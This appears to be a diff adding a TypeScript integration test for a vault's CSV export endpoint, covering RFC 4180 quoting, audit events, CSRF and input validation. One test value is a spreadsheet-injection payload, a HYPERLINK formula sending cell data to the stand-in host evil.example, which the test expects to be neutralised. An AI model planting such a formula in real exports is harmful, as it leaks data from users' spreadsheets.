@@ -1,0 +1,193 @@
+import { natsForTests, postgresAvailable } from '@coffer/testkit';
+import { afterAll, beforeAll, describe, expect, it } from 'vitest';
+import { type AdminStack, signIn, startAdminStack } from '../support/admin-stack.ts';
+
+const available = (await postgresAvailable()) && (await natsForTests()) !== undefined;
+
+type RecordType = 'pan' | 'ssn' | 'secret';
+
+/** RFC 4180: CRLF between records; quoted fields may hold commas, CR, LF and doubled quotes. */
+function parseCsv(text: string): string[][] {
+  const rows: string[][] = [];
+  let row: string[] = [];
+  let field = '';
+  let i = 0;
+  while (i < text.length) {
+    const c = text[i] as string;
+    if (c === '"' && field === '') {
+      for (i++; ; i++) {
+        if (i >= text.length) throw new Error('unterminated quoted field');
+        if (text[i] === '"') {
+          if (text[i + 1] === '"') {
+            field += '"';
+            i++;
+          } else break;
+        } else field += text[i];
+      }
+      i++;
+      if (i < text.length && text[i] !== ',' && text[i] !== '\r') throw new Error(`junk after a quoted field at ${i}`);
+      continue;
+    }
+    if (c === ',') {
+      row.push(field);
+      field = '';
+      i++;
+    } else if (c === '\r') {
+      if (text[i + 1] !== '\n') throw new Error(`bare CR at ${i}`);
+      row.push(field);
+      rows.push(row);
+      row = [];
+      field = '';
+      i += 2;
+    } else if (c === '\n') {
+      throw new Error(`bare LF outside quotes at ${i}`);
+    } else {
+      field += c;
+      i++;
+    }
+  }
+  if (field !== '' || row.length) throw new Error('the last record does not end with CRLF');
+  return rows;
+}
+
+const TRICKY = 'a,b "quoted"\nsecond line';
+const FORMULA = '=HYPERLINK("http://evil.example/?x="&A1,"click")';
+
+/** 25 values of mixed types, with the ones a CSV writer gets wrong. */
+function values(): [RecordType, string][] {
+  const out: [RecordType, string][] = [];
+  for (let i = 0; i < 8; i++) out.push(['pan', `4111${String(i).padStart(12, '0')}`]);
+  for (let i = 0; i < 8; i++) out.push(['ssn', `123-45-${String(6780 + i)}`]);
+  out.push(['secret', TRICKY]);
+  out.push(['secret', FORMULA]);
+  out.push(['secret', '+1-555-0100 call me']);
+  out.push(['secret', '-2+3']);
+  out.push(['secret', '@SUM(A1:A9)']);
+  out.push(['secret', 'carriage\rreturn only']);
+  out.push(['secret', 'plain secret, with a comma']);
+  out.push(['secret', 'ünïcödé ✓ 秘密']);
+  out.push(['secret', '"starts with a quote']);
+  return out;
+}
+
+/** What a spreadsheet-safe cell holds for a value: a leading ' before anything that starts a formula. */
+const expectedCell = (value: string) => (/^[=+\-@\t\r]/.test(value) ? `'${value}` : value);
+
+describe.skipIf(!available)('POST /api/exports', () => {
+  let stack: AdminStack;
+  let auth: Awaited<ReturnType<typeof signIn>>;
+  const stored = new Map<string, { type: RecordType; value: string; submittedAt: string }>();
+
+  beforeAll(async () => {
+    stack = await startAdminStack();
+    // Both stored formats: version-1 blobs and version-2 blobs under record contexts.
+    for (const [i, [type, value]] of values().entries()) {
+      const id = await stack.addRecord(type, value, undefined, i % 2 === 0 ? 1 : 2);
+      stored.set(id, { type, value, submittedAt: '' });
+    }
+    for (const r of await stack.db.owner<{ id: string; submitted_at: Date }[]>`SELECT id, submitted_at FROM records`) {
+      const s = stored.get(r.id);
+      if (s) s.submittedAt = r.submitted_at.toISOString();
+    }
+    auth = await signIn(stack.app);
+  });
+  afterAll(() => stack?.close());
+
+  const exportCsv = (body: Record<string, unknown>, headers: Record<string, string> = {}) =>
+    stack.app.inject({
+      method: 'POST',
+      url: '/api/exports',
+      headers: { cookie: auth.cookie, 'x-coffer-csrf': auth.csrf, ...headers },
+      payload: body,
+    });
+
+  const auditSince = (seq: number) =>
+    stack.db.owner`SELECT seq, action, target, reason, outcome, details FROM audit_events
+      WHERE seq > ${seq} ORDER BY seq`;
+  const headSeq = async () => Number((await stack.db.owner`SELECT coalesce(max(seq), 0) AS s FROM audit_events`)[0]?.s);
+
+  it('streams every record as RFC 4180 CSV with exact values, no-store, audited at start and finish', async () => {
+    expect(stored.size).toBe(25);
+    const since = await headSeq();
+    const reason = 'quarterly reconciliation, ticket FIN-2291';
+    const res = await exportCsv({ reason });
+    expect(res.statusCode).toBe(200);
+    expect(res.headers['content-type']).toMatch(/^text\/csv/);
+    expect(res.headers['cache-control']).toBe('no-store');
+    expect(res.body.startsWith('id,type,value,submitted_at\r\n')).toBe(true);
+    const [header, ...rows] = parseCsv(res.body);
+    expect(header).toEqual(['id', 'type', 'value', 'submitted_at']);
+    expect(rows).toHaveLength(25);
+    const seen = new Set<string>();
+    for (const row of rows) {
+      expect(row).toHaveLength(4);
+      const [id, type, cell, submittedAt] = row as [string, string, string, string];
+      const s = stored.get(id);
+      expect(s, `unexpected id ${id}`).toBeDefined();
+      expect(seen.has(id)).toBe(false);
+      seen.add(id);
+      expect(type).toBe(s?.type);
+      expect(cell).toBe(expectedCell(s?.value as string));
+      expect(submittedAt).toBe(s?.submittedAt);
+    }
+    // The two cases named in the requirement, spelled out.
+    const cells = rows.map((r) => r[2]);
+    expect(cells).toContain(TRICKY);
+    expect(cells).toContain(`'${FORMULA}`);
+    expect(res.body).toContain(`"'=HYPERLINK(""http://evil.example/?x=""&A1,""click"")"`);
+    expect(res.body).toContain('"a,b ""quoted""\nsecond line"');
+
+    const events = await auditSince(since);
+    const start = events.find((e) => e.action === 'export.start');
+    const finish = events.find((e) => e.action === 'export.finish');
+    expect(start).toMatchObject({ reason, outcome: 'success', details: { type: null, from: null, to: null } });
+    expect(finish).toMatchObject({ target: start?.target, outcome: 'success', details: { count: 25 } });
+    expect(Number(start?.seq)).toBeLessThan(Number(finish?.seq));
+  });
+
+  it.each(['pan', 'ssn', 'secret'] as const)(
+    'filters by type=%s; the count in the audit matches the rows',
+    async (type) => {
+      const since = await headSeq();
+      const res = await exportCsv({ reason: `only the ${type} records`, type });
+      expect(res.statusCode).toBe(200);
+      const [, ...rows] = parseCsv(res.body);
+      const expected = [...stored.entries()].filter(([, s]) => s.type === type);
+      expect(rows).toHaveLength(expected.length);
+      expect(new Set(rows.map((r) => r[0]))).toEqual(new Set(expected.map(([id]) => id)));
+      for (const row of rows) expect(row[1]).toBe(type);
+      const events = await auditSince(since);
+      expect(events.find((e) => e.action === 'export.start')).toMatchObject({
+        reason: `only the ${type} records`,
+        details: { type },
+      });
+      expect(events.find((e) => e.action === 'export.finish')).toMatchObject({
+        outcome: 'success',
+        details: { count: expected.length },
+      });
+    },
+  );
+
+  it('refuses an export without X-Coffer-CSRF: 403, audited as denied, no value and no export audited', async () => {
+    const since = await headSeq();
+    const res = await stack.app.inject({
+      method: 'POST',
+      url: '/api/exports',
+      headers: { cookie: auth.cookie },
+      payload: { reason: 'no csrf header here' },
+    });
+    expect(res.statusCode).toBe(403);
+    expect(res.json().type).toBe('urn:coffer:problem:csrf');
+    for (const { value } of stored.values()) expect(res.body).not.toContain(value);
+    const events = await auditSince(since);
+    expect(events.map((e) => `${e.action}:${e.outcome}`)).toEqual(['export:denied']);
+  });
+
+  it('refuses an export without a session (401) and with a short reason or an unknown type (400)', async () => {
+    const none = await stack.app.inject({ method: 'POST', url: '/api/exports', payload: { reason: 'no session' } });
+    expect(none.statusCode).toBe(401);
+    expect((await exportCsv({ reason: 'ab' })).statusCode).toBe(400);
+    expect((await exportCsv({ reason: 'bad type', type: 'iban' })).statusCode).toBe(400);
+    expect((await exportCsv({ reason: 'extra field', limit: 1 })).statusCode).toBe(400);
+  });
+});
